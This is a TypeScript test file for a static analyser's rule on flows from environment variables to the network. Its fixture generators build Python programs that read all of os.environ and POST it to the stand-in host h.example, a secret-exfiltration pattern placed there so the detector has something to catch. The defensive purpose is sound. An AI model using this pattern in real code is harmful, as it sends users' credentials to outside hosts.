import { describe, expect, it } from 'vitest';
import { compileRules } from '../../../src/rules/compile.ts';
import { loadRules } from '../../../src/rules/load.ts';
import { prepareRules } from '../../../src/rules/rule-set.ts';
import { gatherFacts } from '../../../src/static/facts/gather.ts';
import { finish } from '../../../src/static/frontends/steps.ts';
import { flowsOf } from '../../../src/static/flow/flows.ts';
import { staticStage } from '../../../src/static/stage.ts';
import { STAGE_CONTEXT, targetOf } from '../engine/target.ts';

const rules = prepareRules(compileRules([loadRules('rules', 'built-in')]));

async function isFarIn(text: string): Promise<readonly boolean[]> {
  const [facts] = await finish(gatherFacts([{ path: 'a.py', text, language: 'python' }], rules));
  if (facts === undefined) throw new Error('no facts');
  return flowsOf(facts.graph)
    .filter(({ from, to }) => from === 'environment' && to === 'network')
    .map(({ isFar }) => isFar);
}

/** A value that goes through so many functions, and is put into so many other places. */
function program(functions: number, places: number): string {
  const steps = Array.from(
    { length: functions },
    (_, nth) => `def f${nth}(v):\n  return f${nth + 1}(str(v) + "-")\n`,
  );
  const copies = Array.from(
    { length: places },
    (_, nth) => `def g${nth}(v):\n  return v\nc${nth} = g${nth}(values)\n`,
  );
  return (
    `import os, requests\n${steps.join('')}def f${functions}(v):\n  requests.post("https://h.example", data=v)\n` +
    `values = dict(os.environ)\n${copies.join('')}f0(values)\n`
  );
}

/** The same, but for a place that the value shares with others: an attribute that is set twice. */
function sharing(functions: number, places: number): string {
  return program(functions, places).replace(
    /f0\(values\)\n$/,
    'class Box:\n  def set(self, v):\n    self.held = v\n  def other(self):\n    self.held = input()\nbox = Box()\nbox.set(values)\nf0(box.held)\n',
  );
}

describe('how far a value comes', () => {
  it('is not far where it comes straight, however much else it is put into', async () => {
    expect(await isFarIn(program(0, 200))).toEqual([false]);
  });

  it('is not far through many functions of a small program', async () => {
    expect(await isFarIn(program(12, 0))).toEqual([false]);
  });

  it('is not far through however many functions, and whatever else it is put into: calls cost nothing', async () => {
    expect(await isFarIn(program(12, 200))).toEqual([false]);
    expect(await isFarIn(program(90, 0))).toEqual([false]);
  });

  it('is not far through functions that others call with other values, and that give it back', async () => {
    const steps = Array.from(
      { length: 12 },
      (_, nth) => `def f${nth}(v):\n  return g${nth}(v)\ndef g${nth}(v):\n  return v\nf${nth}(input())\n`,
    );
    const calls = Array.from({ length: 12 }, (_, nth) => `v = f${nth}(v) + input()\n`);
    const copies = Array.from({ length: 80 }, (_, nth) => `def c${nth}(v):\n  return v\nc${nth}(v)\n`);
    const text = `import os, requests\n${steps.join('')}v = dict(os.environ)\n${copies.join('')}${calls.join('')}requests.post("https://h.example", data=v)\n`;
    expect(await isFarIn(text)).toEqual([false]);
  });

  it('is not far through a place that it does not share', async () => {
    expect(await isFarIn(sharing(12, 200).replace('self.held = input()', 'pass'))).toEqual([false]);
  });

  it('is far through many functions and a shared place where it is put into very many places', async () => {
    expect(await isFarIn(sharing(12, 200))).toEqual([true]);
    expect(await isFarIn(sharing(12, 0))).toEqual([false]);
    expect(await isFarIn(sharing(0, 200))).toEqual([false]);
  });
});

describe('a secret on a long way', () => {
  /** What a target of one program comes to. */
  async function severities(text: string): Promise<readonly string[]> {
    const { findings } = await staticStage.run(targetOf({ 'a.py': text }), STAGE_CONTEXT);
    return findings
      .filter(({ ruleId }) => ruleId === 'environment-to-network')
      .map(({ severity, confidence }) => `${severity} ${confidence}`);
  }

  it('is told of alike, however many functions it is led through', async () => {
    const straight = await severities(program(0, 0));
    expect(straight).toHaveLength(1);
    expect(await severities(program(90, 100))).toEqual(straight);
  });

  // What is for sale still: docs/adr/0116.
  it('is told of with less confidence, never left out, behind a place that it shares', async () => {
    expect(await severities(sharing(90, 100))).toEqual(['critical low']);
  });
});
